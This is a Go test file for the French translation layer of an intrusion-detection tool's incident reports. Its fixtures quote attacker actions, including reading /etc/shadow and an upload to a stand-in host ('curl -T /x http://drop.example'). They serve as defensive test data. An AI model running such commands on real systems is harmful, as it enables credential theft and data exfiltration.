package report

import (
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
)

func frenchCatalogue(t *testing.T) catalogue {
	t.Helper()
	c, err := compileCatalogue(frenchTable)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// plainly is a text as it reads, typeset, with values between backticks.
func plainly(t text) string {
	var b strings.Builder
	for _, r := range t {
		switch r.kind {
		case value:
			b.WriteString("`" + r.s + "`")
		case quoted:
			b.WriteString(r.s)
		default:
			b.WriteString(set("fr", r.s))
		}
	}
	return b.String()
}

func TestTranslate(t *testing.T) {
	c := frenchCatalogue(t)
	for _, tt := range []struct{ class, en, fr string }{
		{"title", "Intrusion into web1 and db1 by 192.0.2.7 and 2 others: as far as exfiltration", "Intrusion touchant `web1` et `db1`, par `192.0.2.7` et 2 autres, jusqu’à la phase «\u00a0exfiltration\u00a0»"},
		{"title", "Unusual activity aimed at more than 12 machines of 3 organisations", "Activité inhabituelle visant plus de 12 machines dans 3 organisations"},
		{"why", "one action is grave by itself: within a day 1 tactic of 1 that were tried, whether it worked is not recorded, 0 machines entered, as it was told before", "une action est grave à elle seule\u00a0: en l’espace d’un jour, 1 tactique sur 1 tentées, sans trace de réussite ni d’échec, aucune machine atteinte, comme rapporté auparavant"},
		{"step", "ran cat /etc/shadow and 1 more such act on web1", "exécution de `cat /etc/shadow` et 1 autre acte semblable sur `web1`"},
		{"step", "tried to write /etc/passwd on web1, which failed", "tentative d’écriture de `/etc/passwd` sur `web1`, sans succès"},
		{"step", "Password spraying succeeded (3 times) at web1, and it worked: a program then ran below the server (ran id on web1)", "«\u00a0Password spraying succeeded\u00a0» (3 fois) sur `web1`, avec succès\u00a0: un programme s’est ensuite exécuté sous le serveur (exécution de `id` sur `web1`)"},
		{"link", `both have the same agent "curl/8.1", as 2 of 40 do`, "tous deux ont le même agent utilisateur «\u00a0curl/8.1\u00a0», comme 2 sur 40"},
		{"link", "10 links between what belongs to the one and to the other, each weak; the firmest: 192.0.2.7 logged in as ann, whose web1/60 then acted", "10 liens entre ce qui relève de l’un et ce qui relève de l’autre, chacun faible\u202f; le plus solide\u00a0: `192.0.2.7` s’est connecté en tant que `ann`, dont la session `web1/60` a agi ensuite"},
		{"measure", "10 gaps: 50 % below 1 s, 50 % 5 min and more", "10 intervalles\u00a0: 50\u202f% sous 1 s, 50\u202f% de 5 min et plus"},
		{"measure", "three in five of the gaps between commands are 1.5 to 2.0 s", "trois intervalles sur cinq entre commandes durent de 1,5 à 2,0 s"},
		{"indicator", "Many name it (every machine's name for itself). A command on web1 names it: curl -T /x http://drop.example.", "Beaucoup de journaux nomment cet élément (nom que toute machine se donne). Une commande sur `web1` nomme cet élément\u00a0: `curl -T /x http://drop.example`."},
		{"open", "The last step seen is Lateral Movement, at 2026-11-28 14:05 UTC: see what the same actors did afterwards.", "La dernière étape observée est «\u00a0déplacement latéral\u00a0», à la date du 2026-11-28 14:05 UTC\u00a0: voir ce que les mêmes acteurs ont fait ensuite."},
		{"caller", "203.0.113.5 with aws-cli on linux, key …0001, as arn:aws:iam::111122223333:user/ann", "`203.0.113.5` avec `aws-cli` sous `linux`, clé `…0001`, en tant que `arn:aws:iam::111122223333:user/ann`"},
		{"key", "login as root (9 times alike, this is the last)", "connexion en tant que `root` (9 fois de même, voici la dernière)"},
	} {
		got, ok := c.translate(tt.class, tt.en)
		if s := plainly(got); !ok || s != tt.fr {
			t.Errorf("%s %q\n is  %q\nwant %q", tt.class, tt.en, s, tt.fr)
		}
	}
	w, err := tongue("fr")
	if err != nil {
		t.Fatal(err)
	}
	if got := plainly(w.tell("link", "no sentence that is known")); got != "«\u00a0no sentence that is known\u00a0» (en anglais)" {
		t.Errorf("what is not known is told as %q", got)
	}
}

// What a log holds is not taken for a sentence of Tocsin's, wherever it stands, and costs no more for its form.
func TestTranslateHostile(t *testing.T) {
	c := frenchCatalogue(t)
	got, ok := c.translate("link", `both have the same agent "one record names both a and b", as 2 of 3 do`)
	if s := plainly(got); !ok || !strings.Contains(s, "one record names both a and b") {
		t.Errorf("a name is translated: %q", s)
	}
	for _, r := range got {
		if r.kind == said && strings.Contains(r.s, "one record") {
			t.Errorf("what a log holds is said by Tocsin: %q", r.s)
		}
	}
	for _, s := range []string{"{1}", "", " ", "\x00", "ran {1:n}", "logged in as , which then acted"} {
		for class := range c {
			c.translate(class, s) // must not panic
		}
	}
	start := time.Now()
	for _, part := range []string{" and, 1 s later, ", " logged in as ", " on a", " (1 times)", ": ", " worked: ", " 1 % new,", "It was made: ", ", which failed"} {
		long := strings.Repeat(part, 4096/len(part))
		for class := range c {
			f := search{c, maxTries}
			f.class(class, long, 0)
			f.class(class, long+", where such things are seldom", 0)
			if f.tries < -maxDepth*len(c) {
				t.Errorf("%s %q: %d tries beyond the bound", class, part, -f.tries)
			}
		}
	}
	if d := time.Since(start); d > time.Minute {
		t.Errorf("%v", d)
	}
}

// A faulty table is an error, not a wrong sentence.
func TestCatalogueFaults(t *testing.T) {
	for _, table := range []string{"a\tb", "a\t{1}{2}\tx", "a\tx {1}\ty {2}", "a\tx {1:none} y\tz {1}"} {
		if _, err := compileCatalogue(table); err == nil {
			t.Errorf("%q is taken", table)
		}
	}
}

var (
	verbOf   = regexp.MustCompile(`%[-+0-9.]*[a-zA-Z%]`)
	holeOf   = regexp.MustCompile(`\{[^}]*\}`)
	sentence = regexp.MustCompile(`[A-Za-z]{2,}[,:;]? +[A-Za-z(]|[A-Za-z]{2,} $|^[,;]? [a-z]{2,}`)
)

// TestSentencesHaveFrench reads the source of the packages that make findings: each text with more than a word in it is part of a
// row of the catalogue, or named in testdata/french/not-told.txt as one that no report tells.
func TestSentencesHaveFrench(t *testing.T) {
	var english strings.Builder
	for _, line := range strings.Split(frenchTable, "\n") {
		if c := strings.Split(line, "\t"); len(c) == 3 {
			english.WriteString(holeOf.ReplaceAllString(c[1], "\x00") + "\x01")
		}
	}
	rows := english.String()
	b, err := os.ReadFile("testdata/french/not-told.txt")
	if err != nil {
		t.Fatal(err)
	}
	spared := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if s, err := strconv.Unquote(line); err == nil {
			spared[s] = false
		} else if !strings.HasPrefix(line, "#") {
			t.Errorf("not-told.txt: %s", line)
		}
	}
	n := 0
	for _, dir := range []string{"campaign", "actor", "engine", "naming", "channel", "action", "guard"} {
		for _, s := range literals(t, dir) {
			if _, ok := spared[s]; ok {
				spared[s] = true
				continue
			}
			n++
			for _, piece := range strings.Split(verbOf.ReplaceAllString(s, "\x00"), "\x00") {
				piece = strings.TrimSpace(piece)
				if strings.Contains(piece, " ") && !strings.Contains(rows, piece) {
					t.Errorf("%s: %q has no French: add it to report/french.tsv, or to report/testdata/french/not-told.txt if no incident report tells it", dir, s)
					break
				}
			}
		}
	}
	for s, used := range spared {
		if !used {
			t.Errorf("not-told.txt: %q is in none of the packages", s)
		}
	}
	if n < 120 {
		t.Errorf("%d texts were found: the source is not read", n)
	}
	t.Logf("%d texts of the source have French", n)
}

// TestEvidenceHasFrench says every row of evidence, of one and of several, and every trade of defenders in French.
func TestEvidenceHasFrench(t *testing.T) {
	fr, err := tongue("fr")
	if err != nil {
		t.Fatal(err)
	}
	says := func(class, s string) {
		t.Helper()
		if said, ok := fr.catalogue.translate(class, s); !ok {
			t.Errorf("%s: %q has no French", class, s)
		} else if strings.Contains(said.plain(), " of ") {
			t.Errorf("%s: %q is half English", class, said.plain())
		}
	}
	file := func(name string) string {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	hole := regexp.MustCompile(`\{n ([^|{}]*)\|([^|{}]*)\}`)
	n := 0
	for line := range strings.Lines(file("../guard/evidence.tsv")) {
		c := strings.Split(line, "\t")
		if strings.HasPrefix(line, "#") || len(c) < 5 {
			continue
		}
		for _, where := range []string{"its own machine", "192.0.2.0/24", "what it shares with them, a secret, a callback or a file"} {
			for _, form := range []string{"1 $1", "17 $2"} {
				s := hole.ReplaceAllString(c[4], form)
				says("ground", strings.NewReplacer("{n}", form[:strings.IndexByte(form, ' ')], "{where}", where, "{what}", "lateral movement").Replace(s))
				n++
			}
		}
	}
	for line := range strings.Lines(file("../guard/defence.txt")) {
		if _, s, ok := strings.Cut(line, "] "); ok && strings.HasPrefix(line, "[") {
			says("cleared", strings.NewReplacer("{n}", "7", "{m}", "1,200").Replace(strings.TrimSpace(s)))
			n++
		}
	}
	if n < 150 {
		t.Errorf("%d sentences were found", n)
	}
	h := principalHunt(2)
	h.Principals[0].Sight.Why = "3 of 31 calls were cut: what was read and then used may be missed"
	h.Principals[2].Evidence = []tocsin.Ground{{ID: "provider-refused", Sentence: "the provider of the model refused or stopped 2 of its requests: refusal, cyber"}}
	for _, s := range append(sightLines(h.Principals), providerLine(h.Principals)) {
		says("note", s)
	}
	for _, p := range h.Principals {
		for _, s := range wouldClear(p) {
			says("would", s)
		}
		says("sight", sightOf(p))
	}
}

// literals are the texts of a package with more than a word, but those of errors and those in front of programs' names: of package
// action only what is assigned to the text of an action.
func literals(t *testing.T, dir string) (all []string) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("..", dir, "*.go"))
	if err != nil || len(files) == 0 {
		t.Fatal(dir, err)
	}
	for _, path := range files {
		if strings.HasSuffix(path, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		var walk func(n ast.Node) bool
		take := func(n ast.Node) bool {
			if l, ok := n.(*ast.BasicLit); ok && l.Kind == token.STRING {
				if s, err := strconv.Unquote(l.Value); err == nil && sentence.MatchString(s) && !slices.Contains(all, s) {
					all = append(all, s)
				}
			}
			return true
		}
		walk = func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.ImportSpec:
				return false
			case *ast.Field:
				return n.Tag == nil
			case *ast.CallExpr:
				switch fun := n.Fun.(type) {
				case *ast.SelectorExpr:
					if fun.Sel.Name == "Errorf" || fun.Sel.Name == "New" {
						return false
					}
				case *ast.Ident:
					if fun.Name == "panic" {
						return false
					}
				}
			case *ast.AssignStmt:
				if dir == "action" {
					for i, x := range n.Lhs {
						if at, ok := x.(*ast.SelectorExpr); ok && at.Sel.Name == "Text" && len(n.Lhs) == len(n.Rhs) {
							ast.Inspect(n.Rhs[i], take)
						}
					}
					return true
				}
			}
			return dir == "action" || take(n)
		}
		ast.Inspect(f, walk)
	}
	return all
}

// The verbs by which campaigns say deeds, and why something is common or a service of everybody's, each have their French.
func TestTablesHaveFrench(t *testing.T) {
	c := frenchCatalogue(t)
	f, err := parser.ParseFile(token.NewFileSet(), "../campaign/sentence.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	ast.Inspect(f, func(x ast.Node) bool {
		v, ok := x.(*ast.ValueSpec)
		if !ok || v.Names[0].Name != "phrases" {
			return true
		}
		for _, e := range v.Values[0].(*ast.CompositeLit).Elts {
			kv := e.(*ast.KeyValueExpr)
			word := func(e ast.Expr) string { s, _ := strconv.Unquote(e.(*ast.BasicLit).Value); return s }
			if _, ok := c.translate("verb", word(kv.Key)); !ok {
				t.Errorf("the verb %s has no French", word(kv.Key))
			}
			p := kv.Value.(*ast.CompositeLit)
			for _, s := range []string{word(p.Elts[0]) + " /x/y", "tried to " + word(p.Elts[1]) + " /x/y"} {
				n++
				if got, ok := c.translate("deed", s+" on web1"); !ok || strings.Contains(plainly(got), "«") {
					t.Errorf("%q is %q", s, plainly(got))
				}
			}
		}
		return false
	})
	if n < 40 {
		t.Errorf("%d phrases were found", n)
	}
	for path, class := range map[string]string{"../prevalence/prevalence.tsv": "common", "../prevalence/provider.tsv": "provider"} {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			column := strings.Split(line, "\t")
			if strings.HasPrefix(line, "#") || len(column) < 4 {
				continue
			}
			if why := column[len(column)-1]; why != "" {
				if _, ok := c.translate(class, why); !ok {
					t.Errorf("%s: %q has no French", path, why)
				}
			}
		}
	}
}
